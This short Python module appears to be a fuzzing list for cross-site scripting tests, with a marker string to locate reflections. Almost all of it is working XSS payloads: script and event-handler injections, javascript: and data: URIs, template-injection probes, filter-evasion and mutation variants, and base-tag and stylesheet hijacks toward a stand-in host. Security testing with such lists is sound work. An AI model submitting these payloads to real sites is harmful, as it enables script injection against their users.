"""Texts that run a script where a page forgets to escape them. Each bears `MARK`, so that we find where it is shown."""

MARK = "xss7f3"
# One text for most places at once: between tags, in both kinds of quotes, in titles, areas and comments.
EVERYWHERE = (
    f"{MARK}'\"--></title></textarea></select></script><script>alert(1)</script>"
    "<img src=x onerror=alert(1)><svg onload=alert(1)>"
)
SHORT = f"{MARK}\"'><img src=x onerror=alert(1)>"
MORE = (
    f"{MARK}' autofocus onfocus=alert(1) x='",
    f'{MARK}" onmouseover=alert(1) autofocus onfocus="alert(1)',
    f"javascript:alert('{MARK}')",
    f"data:text/html,{MARK}<script>alert(1)</script>",
    f"{MARK}{{{{7*7}}}}${{7*7}}<%=7*7%>{{%raw%}}<script>alert(1)</script>",
    f"{MARK}<scr<script>ipt>alert(1)</scr</script>ipt>",
    f"{MARK}<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    f"{MARK}<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"{MARK}<a href=javascript:alert(1)>x</a><form action=javascript:alert(1)><button>x</button></form>",
    f"{MARK}<base href=//elsewhere.example/><link rel=stylesheet href=//elsewhere.example/x.css>",
    f"{MARK}<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"{MARK}<style>*{{background:url(//elsewhere.example/)}}</style><p style=color:red>",
    f"{MARK}\uff1cscript\uff1ealert(1)\uff1c/script\uff1e<script\x0b>alert(1)</script>",
    f"{{漢字|{MARK}<script>alert(1)</script>}}**[x](javascript:alert(1))**",
    f"{MARK}]]></text><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
)
